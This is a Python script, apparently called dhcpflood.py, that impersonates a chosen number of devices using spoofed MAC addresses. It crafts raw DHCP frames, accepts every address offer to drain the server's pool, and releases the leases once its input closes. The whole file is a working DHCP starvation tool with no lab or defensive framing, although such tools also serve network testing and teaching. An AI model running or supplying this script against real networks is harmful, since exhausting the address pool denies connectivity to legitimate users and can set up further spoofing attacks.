"""Ask for addresses in the name of as many devices as are wanted: dhcpflood.py COUNT

Every offer is taken. Says how many it got; gives them back when its input closes.
"""

import select
import socket
import struct
import sys
import time
from collections.abc import Iterator

COUNT = int(sys.argv[1])
SETTLED_S = 2.0  # so long without an answer means that there are no more
DISCOVER, OFFER, REQUEST, ACK, RELEASE = 1, 2, 3, 5, 7
CROWD = bytes.fromhex("024d57f0")  # what their MAC addresses begin with
BROADCAST = b"\xff" * 6


def mac(number: int) -> bytes:
    return CROWD + struct.pack("!H", number)


def checksum(data: bytes) -> bytes:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def frame(
    number: int,
    kind: int,
    *,
    own: bytes = bytes(4),
    options: bytes = b"",
    target: tuple[bytes, bytes] = (BROADCAST, b"\xff" * 4),
) -> bytes:
    message = struct.pack("!BBBBIHH4s12x6s202x", 1, 1, 6, 0, number, 0, 0x8000, own, mac(number))
    message += b"\x63\x82\x53\x63" + bytes((53, 1, kind)) + options + b"\xff"
    udp = struct.pack("!HHHH", 68, 67, 8 + len(message), 0) + message
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, own, target[1])
    return target[0] + mac(number) + b"\x08\x00" + head[:10] + checksum(head) + head[12:] + udp


def answers(wire: socket.socket, seconds: float) -> Iterator[tuple[int, int, bytes, bytes, bytes]]:
    """Yield (number, kind, address, server's address, server's MAC) for so long."""
    end = time.monotonic() + seconds
    while select.select([wire], [], [], max(0, end - time.monotonic()))[0]:
        got = wire.recv(2048)
        to_a_client = got[23:24] == b"\x11" and got[36:38] == b"\0\x44"
        if not to_a_client or got[70:74] != CROWD:
            continue
        number, kind = struct.unpack("!H", got[74:76])[0], got[284]
        yield number, kind, got[58:62], got[287:291], got[6:12]


def take(
    wire: socket.socket, granted: dict[int, tuple[bytes, bytes, bytes]], seconds: float
) -> bool:
    """Accept every offer; return whether there was an answer."""
    heard = False
    for number, kind, address, server, server_mac in answers(wire, seconds):
        heard = True
        if kind == OFFER:
            options = b"\x32\x04" + address + b"\x36\x04" + server
            wire.send(frame(number, REQUEST, options=options))
        elif kind == ACK:
            granted[number] = (address, server, server_mac)
    return heard


granted: dict[int, tuple[bytes, bytes, bytes]] = {}
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as wire:
    wire.bind(("eth0", 0x0800))
    for number in range(COUNT):
        wire.send(frame(number, DISCOVER))
        take(wire, granted, 0.001)
    while take(wire, granted, SETTLED_S):
        pass
    print(f"asked {COUNT}, got {len(granted)}")
    sys.stdin.read()
    for number, (address, server, server_mac) in granted.items():
        release = frame(
            number, RELEASE, own=address, options=b"\x36\x04" + server, target=(server_mac, server)
        )
        wire.send(release)
    print("released")
